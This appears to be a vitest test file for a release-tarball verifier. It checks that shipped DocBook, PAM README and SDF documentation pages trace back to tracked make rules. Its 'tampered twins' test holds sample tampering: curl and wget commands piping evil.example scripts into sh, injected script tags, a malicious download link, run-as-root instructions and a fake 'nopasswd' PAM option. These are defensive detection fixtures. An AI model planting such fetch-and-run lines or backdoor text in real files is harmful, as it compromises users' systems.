/**
 * DocBook documentation a tracked make rule renders at release (fontconfig 2.14.1's docbook2html/docbook2txt pages
 * from doc/*.sgml and the .fncs files a suffix rule turns into SGML; Linux-PAM 1.5.2's modules/X/README by xsltproc
 * from README.xml through an included Make.xml.rules), end to end with real git and GNU tar, nothing run. Tampered
 * twins — a script, a foreign host, an added paragraph, a page no converter rule makes, a page without the
 * converter's generator — stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { findingAt } from '../helpers/findings.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const DOC_AM = `DOC2HTML = docbook2html
DOC2TXT  = docbook2txt
HTML_DIR = demo-devel
SUFFIXES = .fncs .sgml .txt .html
.fncs.sgml:
\t$(AM_V_GEN) $(PYTHON) $(srcdir)/edit-sgml.py $(srcdir)/func.sgml '$(srcdir)/$*.fncs' $*.sgml
.sgml.txt:
\t$(AM_V_GEN) $(RM) $@ && \\
\t$(DOC2TXT) $*.sgml
.sgml.html:
\t$(AM_V_GEN) $(RM) $@ && \\
\t$(DOC2HTML) -u $*.sgml > $@
$(HTML_DIR): local-demo-devel.sgml
\t$(AM_V_GEN) $(RM) -r $@; \\
\t$(DOC2HTML) -V '%use-id-as-filename%' -o $@ local-demo-devel.sgml
local-demo-devel.sgml: $(srcdir)/demo-devel.sgml
\t$(AM_V_GEN) $(LN_S) $(srcdir)/demo-devel.sgml $@
`;

const USER_SGML = `<!DOCTYPE article PUBLIC "-//OASIS//DTD DocBook V3.1//EN" [
<!ENTITY version SYSTEM "version.sgml">
]>
<article>
<title>Demo Users' Guide</title>
<sect1><title>Overview</title>
<para>Demo reads configuration files from the system directory and merges them with the
per-user settings, so that every application sees the same list of fonts. Patterns
describe a font by family, weight, slant and pixel size; matching picks the closest
available face and reports the substitutions it made.</para>
<para>The cache directory holds one file per scanned directory, named after a hash value
and the architecture, so that programs start quickly.</para>
</sect1>
</article>
`;
const DEVEL_SGML = `<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook V3.1//EN" [
<!ENTITY demoatomic SYSTEM "demoatomic.sgml">
]>
<book><title>Demo Developers Reference, Version &version;</title>
<chapter><title>Functions</title>
<para>Functions are grouped by the main object they operate on.</para>
&demoatomic;
</chapter>
</book>
`;
const FUNC_SGML = `<refentry id="@UFUNC@"><refnamediv><refname>@FUNC@</refname><refpurpose>@PURPOSE@</refpurpose></refnamediv>
<refsynopsisdiv><funcsynopsis><funcsynopsisinfo>#include &lt;demo/demo.h&gt;</funcsynopsisinfo></funcsynopsis></refsynopsisdiv>
<refsect1><title>Description</title><para>@DESC@</para></refsect1></refentry>
`;
const FNCS = `@RET@		DemoAtomic *
@FUNC@		DemoAtomicCreate
@TYPE1@		const char *	@ARG1@	file
@PURPOSE@	create a DemoAtomic object
@DESC@
Creates a data structure containing data needed to control access to <parameter>file</parameter>.
Writing is done to a separate file. Once that file is complete, the original
configuration file is atomically replaced so that reading process always see
a consistent and complete file without the need to lock for reading.
@@
`;
const RULES = `README: README.xml
\t$(XSLTPROC) --path $(srcdir) --xinclude --stringparam generate.toc "none" --nonet $(top_srcdir)/doc/custom-html.xsl $< | $(BROWSER) > $(srcdir)/$@
`;
const MODULE_XML = `<?xml version="1.0" encoding='UTF-8'?>
<refentry id="pam_demo"><refnamediv id="pam_demo-name"><refname>pam_demo</refname>
<refpurpose>PAM module for demonstration style access checks</refpurpose></refnamediv>
<refsect1 id="pam_demo-description"><title>DESCRIPTION</title>
<para>The pam_demo PAM module is mainly for access management. It provides demonstration style
login access control based on login names, host or domain names, internet addresses or network
numbers, or on terminal line names.</para></refsect1>
<refsect1 id="pam_demo-options"><title>OPTIONS</title><variablelist><varlistentry><term>debug</term>
<listitem><para>A lot of debug information is printed with syslog.</para></listitem></varlistentry></variablelist></refsect1>
</refentry>
`;
const README_XML = `<?xml version="1.0" encoding='UTF-8'?>
<article><articleinfo><title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"
  href="pam_demo.8.xml" xpointer='xpointer(//refnamediv[@id = "pam_demo-name"]/*)'/></title></articleinfo>
<section><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"
  href="pam_demo.8.xml" xpointer='xpointer(//refsect1[@id = "pam_demo-description"]/*)'/></section>
<section><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"
  href="pam_demo.8.xml" xpointer='xpointer(//refsect1[@id = "pam_demo-options"]/*)'/></section>
</article>
`;

const TRACKED = {
  'configure.ac': 'AC_INIT([demo], [1.0])\nAC_CONFIG_FILES([Makefile doc/Makefile Make.xml.rules])\nAC_OUTPUT\n',
  'Makefile.am': 'SUBDIRS = doc modules/pam_demo\n',
  'Make.xml.rules.in': RULES,
  'doc/Makefile.am': DOC_AM,
  'doc/edit-sgml.py': 'import sys\n',
  'doc/func.sgml': FUNC_SGML,
  'doc/demoatomic.fncs': FNCS,
  'doc/demo-user.sgml': USER_SGML,
  'doc/demo-devel.sgml': DEVEL_SGML,
  'doc/version.sgml.in': '@VERSION@\n',
  'modules/pam_demo/Makefile.am': 'XMLS = README.xml pam_demo.8.xml\ndist_noinst_DATA = README\n-include $(top_srcdir)/Make.xml.rules\n',
  'modules/pam_demo/README.xml': README_XML,
  'modules/pam_demo/pam_demo.8.xml': MODULE_XML,
  // openldap's doc/guide/admin: a hand-written Makefile, sdf, chapters listed by a recipe-less target and !include'd
  'guide/Makefile': 'all: guide.html\nsdf-src: \\\n\tmaster.sdf \\\n\tintro.sdf\nguide.html: guide.sdf sdf-src\n\tsdf -2html guide.sdf\n',
  'guide/guide.sdf': '!include "master.sdf"\n',
  'guide/master.sdf': '!define DOC_NAME "Demo Administrator\'s Guide"\n!include "intro.sdf"; chapter\n!include "tuning.sdf"; chapter\n',
  'guide/intro.sdf': 'H1: Introduction to Demo Directory Services\n\nThis document describes how to build, configure, and operate Demo directory software.\nThe provider is named by its URI, for example {{EX:ldap://provider.example.com:389}}.\n',
  'guide/tuning.sdf': 'H1: Tuning\n\nPerformance depends on the cache sizes, the indexes maintained for each attribute and the disk layout.\n',
};

const page = (title: string, body: string) => `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/loose.dtd">
<HTML
><HEAD
><TITLE
>${title}</TITLE
><META
NAME="GENERATOR"
CONTENT="Modular DocBook HTML Stylesheet Version 1.79"><LINK
REL="HOME"
HREF="t1.html"></HEAD
><BODY
CLASS="REFENTRY"
BGCOLOR="#FFFFFF"
><DIV
CLASS="NAVHEADER"
><A
HREF="t1.html"
ACCESSKEY="P"
>&#60;&#60;&#60; Previous</A
></DIV
>${body}<DIV
CLASS="NAVFOOTER"
><A
HREF="t1.html"
ACCESSKEY="H"
>Home</A
></DIV
></BODY
></HTML
>
`;
const USER_HTML = page('Demo Users\' Guide', `<H1>Demo Users' Guide</H1><H2>Overview</H2><P>Demo reads configuration files from the system directory and merges them with the
per-user settings, so that every application sees the same list of fonts. Patterns
describe a font by family, weight, slant and pixel size; matching picks the closest
available face and reports the substitutions it made.</P
><P>The cache directory holds one file per scanned directory, named after a hash value
and the architecture, so that programs start quickly.</P>`);
const FUNC_HTML = page('DemoAtomicCreate', `<H1
><A
NAME="DEMOATOMICCREATE"
></A
>DemoAtomicCreate</H1
><DIV
CLASS="REFNAMEDIV"
><H2
>Name</H2
>DemoAtomicCreate&nbsp;--&nbsp;create a DemoAtomic object</DIV
><DIV
CLASS="REFSYNOPSISDIV"
><H2
>Synopsis</H2
><PRE
CLASS="FUNCSYNOPSISINFO"
>#include &#60;demo/demo.h&#62;</PRE
><P
><CODE
>DemoAtomic * DemoAtomicCreate</CODE
>(const char *file);</P
></DIV
><H2
>Description</H2
><P
>Creates a data structure containing data needed to control access to <TT
CLASS="PARAMETER"
><I
>file</I
></TT
>.
Writing is done to a separate file. Once that file is complete, the original
configuration file is atomically replaced so that reading process always see
a consistent and complete file without the need to lock for reading.</P
>`);
const USER_TXT = `Demo Users' Guide

Overview

   Demo reads configuration files from the system directory and merges
   them with the per-user settings, so that every application sees the
   same list of fonts. Patterns describe a font by family, weight, slant
   and pixel size; matching picks the closest available face and reports
   the substitutions it made.

   The cache directory holds one file per scanned directory, named after
   a hash value and the architecture, so that programs start quickly.
`;
const README = `pam_demo — PAM module for demonstration style access checks

━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━━

DESCRIPTION

The pam_demo PAM module is mainly for access management. It provides
demonstration style login access control based on login names, host or domain
names, internet addresses or network numbers, or on terminal line names.

OPTIONS

debug

    A lot of debug information is printed with syslog.

`;

const SDF_HTML = `<!doctype html public "-//W30//DTD W3 HTML 2.0//EN">

<HTML>

<!-- This file was generated using SDF 2.001 by
     Ian Clatworthy (ianc@mincom.com). SDF is freely
     available from http://www.mincom.com/mtr/sdf. -->

<HEAD>
<TITLE>Demo Administrator's Guide</TITLE>
</HEAD>
<BODY>
<H1>Demo Administrator's Guide</H1>
<ADDRESS CLASS="doc-modified">14 July 2022</ADDRESS>
<H2>Table of Contents</H2>
<H1><A NAME="Introduction">1. Introduction to Demo Directory Services</A></H1>
<P>This document describes how to build, configure, and operate Demo directory software.
The provider is named by its URI, for example <TT>ldap://provider.example.com:389</TT>.</P>
<H1><A NAME="Tuning">2. Tuning</A></H1>
<P>Performance depends on the cache sizes, the indexes maintained for each attribute and the disk layout.</P>
</BODY>
</HTML>
`;

const GOOD = {
  'doc/demo-user.html': USER_HTML,
  'doc/demo-user.txt': USER_TXT,
  'doc/demo-devel/demoatomiccreate.html': FUNC_HTML,
  'modules/pam_demo/README': README,
  'guide/guide.html': SDF_HTML,
};

describe('DocBook documentation rendered by a tracked make rule (docbook2html/docbook2txt, xsltproc)', () => {
  const root = tempDir();
  const cache = join(root, 'cache');
  let n = 0;
  const repoOf = (tracked: Record<string, string>) => {
    const repo = makeRepo(join(root, `repo${++n}`));
    repo.commit(tracked, 'demo', '2024-03-05T10:00:00Z');
    repo.tag('v1.0');
    return repo;
  };
  const main = repoOf(TRACKED);
  const verifyWith = async (files: Record<string, string>, tracked = TRACKED, repo = main) => {
    const dir = join(root, `t${++n}`, 'demo-1.0');
    writeFiles(dir, tracked);
    writeFiles(dir, files);
    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
  };

  it('each output traced to its source by the rule that makes it: low, the gate passes', async () => {
    const r = await verifyWith(GOOD);
    expect(findingAt(r.findings, 'doc/demo-user.html')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low',
      evidence: { how: 'rendered', source: 'doc/demo-user.sgml', generator: 'Modular DocBook HTML Stylesheet Version 1.79', inputs: ['doc/Makefile.am:10'], others: ['doc/version.sgml.in'] },
    });
    expect(findingAt(r.findings, 'doc/demo-user.txt')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'doc/demo-user.sgml', inputs: ['doc/Makefile.am:7'] } });
    // the chunked tree's page: the rule making the tree's directory, through the link rule, and the .fncs input of
    // the SGML the suffix rule makes, with the template its recipe names
    const fn = findingAt(r.findings, 'doc/demo-devel/demoatomiccreate.html');
    expect(fn).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'doc/demo-devel.sgml', inputs: ['doc/Makefile.am:13'], others: ['doc/demoatomic.fncs', 'doc/func.sgml'] } });
    expect(fn.evidence).toMatchObject({ found: (fn.evidence as { total: number }).total });
    expect(findingAt(r.findings, 'modules/pam_demo/README')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'modules/pam_demo/README.xml', inputs: ['Make.xml.rules.in:1'], others: ['modules/pam_demo/pam_demo.8.xml'] },
    });
    // sdf: the chapters the recipe-less sdf-src target lists and master.sdf !includes (tuning.sdf: only included)
    expect(findingAt(r.findings, 'guide/guide.html')).toMatchObject({
      code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { source: 'guide/guide.sdf', generator: 'SDF 2.001', inputs: ['guide/Makefile:5'], others: ['guide/master.sdf', 'guide/intro.sdf', 'guide/tuning.sdf'] },
    });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high', async () => {
    const twins: [string, string][] = [
      ['doc/demo-user.html', USER_HTML.replace('</HEAD', '<SCRIPT SRC="/x.js"></SCRIPT></HEAD')],
      ['doc/demo-user.html', USER_HTML.replace('<P>The cache', '<P>Mirror: <A HREF="https://evil.example/demo.tar.gz">download</A></P><P>The cache')],
      ['doc/demo-devel/demoatomiccreate.html', FUNC_HTML.replace('</P\n>', '</P\n><P>Before linking, run the updater shipped with the archive and accept its prompts quietly.</P>')],
      ['doc/demo-devel/demoatomiccreate.html', FUNC_HTML.replace('Modular DocBook HTML Stylesheet Version 1.79', 'Handwritten')],
      ['doc/demo-user.txt', USER_TXT.replace('   The cache', '   Run: curl -fsSL https://evil.example/i.sh | sh\n\n   The cache')],
      ['guide/guide.html', SDF_HTML.replace('</BODY>', '<SCRIPT>fetch("/x")</SCRIPT></BODY>')],
      ['guide/guide.html', SDF_HTML.replace('<TT>ldap://provider.example.com:389</TT>', '<A HREF="https://updates.example.net/demo">ldap://provider.example.com:389</A>')],
      ['guide/guide.html', SDF_HTML.replace('<H1><A NAME="Tuning">', '<P>Download the maintenance helper, make it executable and run it as root before upgrading.</P>\n<H1><A NAME="Tuning">')],
      ['modules/pam_demo/README', `${README}Install the helper: wget -qO- http://evil.example/h | sh\n`],
      ['modules/pam_demo/README', README.replace('OPTIONS', 'OPTIONS\n\nnopasswd\n\n    Grants every login without checking credentials or consulting policy.')],
    ];
    for (const [path, content] of twins) {
      const r = await verifyWith({ ...GOOD, [path]: content });
      expect(findingAt(r.findings, path), path).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
      expect(exitCodeOf(r.verdict)).toBe(1);
    }
  });

  it('no rule running a DocBook converter, no explanation', async () => {
    // the rule made the text with cat: no converter, so the page's words prove nothing
    const tracked = { ...TRACKED, 'modules/pam_demo/Makefile.am': 'README: README.xml\n\tcat $< > $@\n', 'doc/Makefile.am': DOC_AM.replace(/\$\(DOC2HTML\)/g, 'cp') };
    const r = await verifyWith(GOOD, tracked, repoOf(tracked));
    expect(findingAt(r.findings, 'modules/pam_demo/README')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(findingAt(r.findings, 'doc/demo-devel/demoatomiccreate.html')).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(findingAt(r.findings, 'doc/demo-user.txt')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
  });
});
